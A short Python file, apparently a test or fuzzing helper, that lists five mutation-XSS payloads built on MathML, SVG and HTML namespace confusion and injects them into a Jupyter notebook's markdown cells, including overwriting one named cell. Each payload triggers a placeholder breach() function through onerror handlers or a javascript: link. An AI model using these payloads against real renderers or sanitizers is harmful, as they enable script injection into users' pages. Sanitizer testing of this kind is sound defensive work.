"""Confuses the namespaces of MathML, SVG and HTML, so that a parser reads a page twice in two ways.

seen: none of them in the feedback in a form that runs.
"""

BAD = [
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=x onerror=breach()&gt;">',
    '<svg></p><style><a id="</style><img src=x onerror=breach()>">',
    '<math><annotation-xml encoding="text/html">'
    "<img src=x onerror=breach()></annotation-xml></math>",
    "<svg><foreignObject><img src=x onerror=breach()></foreignObject></svg>",
    '<math href="javascript:breach()"><mi>x</mi></math>',
]


def change(notebook):
    for number, bad in enumerate(BAD):
        notebook["cells"].append(
            {"cell_type": "markdown", "id": f"bad-{number}", "metadata": {}, "source": bad}
        )
    for cell in notebook["cells"]:
        if cell["id"] == "why_a_product":
            cell["source"] = "\n\n".join(BAD)
